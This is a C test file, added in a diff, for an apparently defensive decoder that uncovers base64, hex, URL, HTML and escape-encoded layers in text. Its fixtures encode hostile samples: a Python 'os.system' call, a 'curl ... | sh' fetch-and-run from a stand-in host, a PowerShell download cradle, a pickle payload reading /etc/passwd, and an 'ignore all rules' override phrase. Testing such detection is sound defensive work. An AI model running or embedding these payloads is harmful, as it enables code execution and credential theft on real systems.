@@ -1,0 +1,315 @@
+/* SPDX-License-Identifier: MIT
+ *
+ * Decoded layers: a row for each encoding and each way it is written, what must not become a layer,
+ * every bound at its maximum and one more, and the time that texts take which were made to take
+ * long.
+ */
+#include <stdlib.h>
+#include <time.h>
+
+#include "base/scope.h"
+#include "scan/decode.h"
+#include "scan/decode_part.h"
+#include "scan/normal.h"
+#include "tap.h"
+
+#define PROGRAM "import os; os.system('id')"
+#define B64 "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="
+#define B64_2 "YVcxd2IzSjBJRzl6T3lCdmN5NXplWE4wWlcwb0oybGtKeWs9"
+#define B64_3 "WVZjeGQySXpTakJKUnpsNlQzbENkbU41TlhwbFdFNHdXbGN3YjBveWJHdEtlV3M5"
+#define B64_4                                                                                      \
+	"V1ZaamVHUXlTWHBUYWtKS1VucHNObFF6YkVOa2JVNDFUbGh3YkZkRk5IZFhiR04zWWpCdmVXSkhkRXRsVjNNNQ=="
+#define HEX "696d706f7274206f733b206f732e73797374656d282769642729"
+
+/* clang-format off */
+static const struct row {
+	const char *in, *how, *out; /* OUT is a layer's text, how it was made */
+} rows[] = {
+	{B64, "base64", PROGRAM},
+	{"exec(b64decode('" B64 "'))", "base64", PROGRAM},
+	{"echo aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk | base64 -d", "base64", PROGRAM},
+	{"Y3VybCBodHRwOi8vYS5iLz8-Pj5-fn4gfCBzaD8_", "base64", "curl http://a.b/?>>>~~~ | sh??"},
+	{"Y3VybCBodHRwOi8vYS5iLz8+Pj5+fn4gfCBzaD8/", "base64", "curl http://a.b/?>>>~~~ | sh??"},
+	{"aW1wb3J0IG9zOyBv\ncy5zeXN0ZW0oJ2lkJyk=\n", "base64", PROGRAM},
+	{"aW1wb3J0IG9zOyBvcy\r\n  5zeXN0\r\n  ZW0oJ2lkJyk=", "base64", PROGRAM},
+	{"{\"d\":\"aW1wb3J0IG9zOyBvcy\\n5zeXN0ZW0oJ2lkJyk=\"}", "base64", PROGRAM},
+	{"x = 'aW1wb3J0IG9zOyBvcy' +\n    '5zeXN0ZW0oJ2lkJyk='", "base64", PROGRAM},
+	{"['aW1wb3J0IG9zOyBvcy', '5zeXN0ZW0oJ2lkJyk=']", "base64", PROGRAM},
+	/* Letters directly before it: one, two, three of them. */
+	{"Q" B64, "base64", NULL}, {"QQ" B64, "base64", NULL}, {"QQQ" B64, "base64", NULL},
+	/* A list whose other parts have nothing to do with it. */
+	{"['getElementsByClassName9', '" B64 "', 'x']", "base64", NULL},
+	{"['getElementsByClassName9getElementsByClassName9getElementsByClassNames', '" B64 "']", "base64", NULL},
+	{"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+	 "base64+utf-16", "IEX (New-Object Net.WebClient)"},
+	{"AEkARQBYACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAAp",
+	 "base64+utf-16", "IEX (New-Object Net.WebClient)"},
+	{"gANjAQL//gCAA2MBAv/+AIADYwEC//4AgANjAQL//gCAA2MBAv/+AIADYwEC//4AgANjAQL//gCAA2MBAv/+AHBvc2l4"
+	 "CnN5c3RlbQpxAFgLAAAAY2F0IC9ldGMvcGFzc3dkhf/+AAGF//4AAYX//gABhf/+AAGF//4AAYX//gAB",
+	 "base64", "posix\nsystem\nq\ncat /etc/passwd"},
+	{HEX, "hex", PROGRAM}, {"bytes.fromhex('" HEX "')", "hex", PROGRAM}, {"0x" HEX, "hex", PROGRAM},
+	{"key_" HEX, "hex", PROGRAM}, {"a" HEX, "hex", PROGRAM},
+	{"696D706F7274206F733B206F732E\n73797374656D282769642729", "hex", PROGRAM},
+	{"{0x69, 0x6d, 0x70, 0x6f, 0x72, 0x74, 0x20, 0x6f, 0x73}", "hex list", "import os"},
+	{"69 6d 70 6f 72 74 20 6f 73", "hex list", "import os"},
+	{"69:6D:70:6F:72:74:20:6F:73", "hex list", "import os"},
+	{"String.fromCharCode(105,109,112,111,114,116,32,111,115)", "number list", "import os"},
+	{"[105, 109, 112, 111,\n 114, 116, 32, 111, 115]", "number list", "import os"},
+	/* Escapes: the text around them stays. */
+	{"see http://x/?q=ignore%20all%20rules now", "url", "see http://x/?q=ignore all rules now"},
+	{"ign%6fre", "url", "ignore"}, {"unescape('%u0069d')", "url", "unescape('id')"},
+	{"50%20", "url", "50 "},
+	{"'\\x69\\x64'", "escape", "'id'"}, {"a\\u0069\\u0064z", "escape", "aidz"},
+	{"\\u{69}\\x{64}", "escape", "id"}, {"\\U00000069d", "escape", "id"},
+	{"$'\\151\\144'", "escape", "$'id'"}, {"\\ud83d\\ude00", "escape", "\xf0\x9f\x98\x80"},
+	{"\\ud83dx", "escape", "\xef\xbf\xbdx"}, {"\\xc3\\xa9", "escape", "\xc3\xa9"},
+	{"\\u0069\\nd\\\"", "escape", "i\nd\""}, {"\\\\u0069d", "escape > escape", "id"},
+	{"&#105;&#x64;", "html", "id"}, {"a &gt;&amp; b&sol;c", "html", "a >& b/c"},
+	{"%69&#100;", "url+html", "id"}, {"%2569d", "url > url", "id"},
+	/* Layers in layers. */
+	{B64_2, "base64 > base64", PROGRAM}, {B64_3, "base64 > base64 > base64", PROGRAM},
+	{"q=aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk%3D%0AaW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk%3D", "base64", PROGRAM},
+	{"\\x61W1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=", "escape > base64", PROGRAM},
+};
+
+/* What honest text has; no layer comes of it. */
+static const char *const nothing[] = {
+	"", "a", "plain words of a text, which are short and many",
+	"getElementsByTagNameAndClassName(document.documentElement)",
+	"/usr/local/lib/python3.11/dist-packages/numpy/core/multiarray.py",
+	"da39a3ee5e6b4b0d3255bfef95601890afd80709 sha1",
+	"sha512-9nqf0AbX+JEoVzRmoZ2tSbHVcjnWYPWKLmJs5QVoQmVRzu8wTRVvlYrkJ3jgjHRFdTGuYOyYNLMxGZ3ocuEbXA==",
+	"123e4567-e89b-12d3-a456-426614174000", "1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12",
+	"[65.2, 70.1, 80, 90, 100, 23, 44, 12, 9]", "printf(\"%d %s %08x %02d\\n\", a, b)",
+	"C:\\users\\xavier\\notes.txt", "a\\nb\\tc \\\"quoted\\\" \\\\ /", "x & y && z &c; R&D;",
+	"                                ", "00:00:00,000 --> 00:00:01,000", "100% of it %", "\\", "\\x", "&#;",
+	"deadbeefcafebabe0123456789abcdef", "aGVsbG8=", "2023-11-15 2023-11-16 2023-11-17",
+};
+/* clang-format on */
+
+static const struct decode_layer *find(const struct decode *d, const char *how, const char *out)
+{
+	for (size_t i = 0; i < d->count; i++) {
+		const struct decode_layer *l = &d->list[i];
+		if (!strcmp(l->how, how) &&
+		    (!out || (l->len == strlen(out) && !memcmp(l->data, out, l->len))))
+			return l;
+	}
+	return NULL;
+}
+
+static void show(const struct decode *d)
+{
+	for (size_t i = 0; i < d->count; i++)
+		printf("# %s: %.*s\n", d->list[i].how, (int)d->list[i].len, d->list[i].data);
+}
+
+static void test_rows(void)
+{
+	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
+		struct decode d;
+		struct err err;
+		size_t len = strlen(rows[i].in);
+		int result = decode_layers(rows[i].in, len, NULL, &d, &err);
+		const struct decode_layer *l = result ? NULL : find(&d, rows[i].how, rows[i].out);
+		if (!ok(l && (rows[i].out || memmem(l->data, l->len, "os.system('id')", 15)) &&
+				d.bound == DECODE_COMPLETE,
+			"row %zu: %s of %.50s", i, rows[i].how, rows[i].in))
+			show(&d);
+		decode_done(&d);
+	}
+	for (size_t i = 0; i < ARRAY_SIZE(nothing); i++) {
+		struct decode d;
+		struct err err;
+		if (!ok(decode_layers(nothing[i], strlen(nothing[i]), NULL, &d, &err) == 0 &&
+				!d.count,
+			"nothing in %.60s", nothing[i]))
+			show(&d);
+		decode_done(&d);
+	}
+}
+
+static void test_places(void)
+{
+	static const char text[] = "first " HEX " then " B64_2 " and " HEX;
+	struct decode d;
+	struct err err;
+
+	ok(decode_layers(text, strlen(text), NULL, &d, &err) == 0, "places: decoded");
+	const struct decode_layer *l = find(&d, "hex", PROGRAM);
+	ok(l && l->parent == DECODE_NO_PARENT && l->offset == 6 && l->span == strlen(HEX) &&
+		   l->depth == 1,
+	   "a layer says where it was");
+	l = find(&d, "base64", B64);
+	ok(l && l->offset == 6 + strlen(HEX) + 6, "the second one too");
+	/* PROGRAM is there already. */
+	ok(d.count == 2 && d.bytes == strlen(PROGRAM) + strlen(B64), "no layer is there twice");
+	decode_done(&d);
+}
+
+static bool bounded(const char *text, const struct decode_limits *limits, enum decode_bound bound,
+		    size_t count)
+{
+	struct decode d;
+	struct err err;
+	bool good = decode_layers(text, strlen(text), limits, &d, &err) == 0 && d.bound == bound &&
+		    d.count == count;
+
+	if (!good)
+		printf("# %zu layers, bound %s\n", d.count, decode_bound_name(d.bound));
+	decode_done(&d);
+	return good;
+}
+
+/* COUNT different lists. */
+static char *many(size_t count)
+{
+	char *text = malloc(count * 5 * DECODE_NUMBERS_MIN + 1), *p = text;
+
+	for (size_t i = 0; i < count; i++)
+		for (int k = 0; k < DECODE_NUMBERS_MIN; k++)
+			p += sprintf(p, "%d%c", 'e' + (int)(i >> (2 * k) & 3),
+				     k + 1 == DECODE_NUMBERS_MIN ? '|' : ',');
+	*p = '\0';
+	return text;
+}
+
+static void test_bounds(void)
+{
+	size_t bytes = strlen(PROGRAM);
+	AUTO_FREE char *most = many(DECODE_COUNT_MAX), *over = many(DECODE_COUNT_MAX + 1);
+
+	ok(bounded(B64_3, NULL, DECODE_COMPLETE, DECODE_DEPTH_MAX), "the deepest");
+	ok(bounded(B64_4, NULL, DECODE_DEPTH, DECODE_DEPTH_MAX), "one deeper is told");
+	ok(bounded(B64, &(struct decode_limits){.bytes = bytes}, DECODE_COMPLETE, 1),
+	   "the most bytes");
+	ok(bounded(B64, &(struct decode_limits){.bytes = bytes - 1}, DECODE_BYTES, 0),
+	   "one byte more is told");
+	ok(bounded(most, &(struct decode_limits){.count = DECODE_COUNT_MAX}, DECODE_COMPLETE,
+		   DECODE_COUNT_MAX),
+	   "the most layers");
+	ok(bounded(over, &(struct decode_limits){.count = DECODE_COUNT_MAX}, DECODE_COUNT,
+		   DECODE_COUNT_MAX),
+	   "one layer more is told");
+	/* The default grows with the text. */
+	ok(bounded(over, NULL, DECODE_COMPLETE, DECODE_COUNT_MAX + 1),
+	   "a longer text may have more");
+	ok(bounded("7072696e74282778", NULL, DECODE_COMPLETE, 1), "the shortest run");
+	ok(bounded("7072696e7428277", NULL, DECODE_COMPLETE, 0), "one character less");
+	ok(bounded("112 114 105 110 116 32 105 116", NULL, DECODE_COMPLETE, 1),
+	   "the shortest list");
+	ok(bounded("114 105 110 116 32 105 116", NULL, DECODE_COMPLETE, 0), "one number less");
+	ok(!strcmp(decode_bound_name(DECODE_COUNT), "layers"), "bounds have names");
+}
+
+static void test_gap(void)
+{
+	for (int more = 0; more < 2; more++) {
+		char text[256];
+		struct decode d;
+		struct err err;
+		sprintf(text,
+			"aW1wb3J0IG9zOyBvcy\n%*s5zeXN0ZW0oJ2lkJyk=", DECODE_GAP_MAX - 1 + more, "");
+		decode_layers(text, strlen(text), NULL, &d, &err);
+		ok((find(&d, "base64", PROGRAM) != NULL) != more, "a gap of %d characters",
+		   DECODE_GAP_MAX + more);
+		decode_done(&d);
+	}
+}
+
+static void test_size(void)
+{
+	AUTO_FREE char *text = calloc(1, NORMAL_TEXT_MAX + 1);
+	struct decode d;
+	struct err err;
+
+	ok(text && decode_layers(text, NORMAL_TEXT_MAX, NULL, &d, &err) == 0, "the longest text");
+	decode_done(&d);
+	ok(text && decode_layers(text, NORMAL_TEXT_MAX + 1, NULL, &d, &err) < 0 &&
+		   err.code == ERR_LIMIT,
+	   "a longer one is an error");
+}
+
+static double now_s(void)
+{
+	struct timespec t;
+
+	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t);
+	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
+}
+
+/* What a text of LEN bytes made of PIECE takes. */
+static double seconds(const char *piece, size_t len)
+{
+	AUTO_FREE char *text = malloc(len);
+	size_t n = strlen(piece);
+	struct decode d;
+	struct err err;
+
+	for (size_t i = 0; i < len; i++)
+		text[i] = piece[i % n];
+	double begin = now_s();
+	if (decode_layers(text, len, NULL, &d, &err) < 0)
+		return 1e9;
+	double end = now_s();
+	decode_done(&d);
+	return end - begin;
+}
+
+/* Eight times the text takes about eight times as long: never more than three times that. */
+static void test_time(void)
+{
+	static const char *const pieces[] = {"%",
+					     "A",
+					     "\\x41",
+					     "\\",
+					     "&",
+					     "&#65;",
+					     "%41",
+					     "%25",
+					     "\\\\",
+					     "AAAA\n",
+					     "'AAAA'+",
+					     "0x41,",
+					     "41 ",
+					     "65,",
+					     "0",
+					     " ",
+					     "\n",
+					     "41",
+					     "\\u0041",
+					     "Aa0_-/+",
+					     "QUFB",
+					     "AAAAAAAAAAAAAAAA ",
+					     "AAAAAAAAAAAAAAAA\n\n\n\n\n\n\n\n\n\n\n\n\n\n",
+					     B64,
+					     B64_4,
+					     HEX " ",
+					     "AAAAAAAAAAAAAAA ",
+					     "&aaaaaaaaaaa",
+					     "\xff",
+					     "\xc3\xa9",
+					     "gANjAQL//gCAA2MB",
+					     "\\ud83d",
+					     "''''''''",
+					     "%u0041",
+					     "0x41 0x41 0x41 0x41 0x41 0x41 0x41 0x41 z"};
+
+	for (size_t i = 0; i < ARRAY_SIZE(pieces); i++) {
+		double small = seconds(pieces[i], 128 << 10), large = seconds(pieces[i], 1 << 20);
+		ok(large < 0.5 && (large < 24 * small || large < 0.02),
+		   "1 MB of \"%.40s\": %.1f ms (%.1f for an eighth)", pieces[i], large * 1e3,
+		   small * 1e3);
+	}
+}
+
+int main(void)
+{
+	test_rows();
+	test_places();
+	test_bounds();
+	test_gap();
+	test_size();
+	test_time();
+	return tap_done();
+}
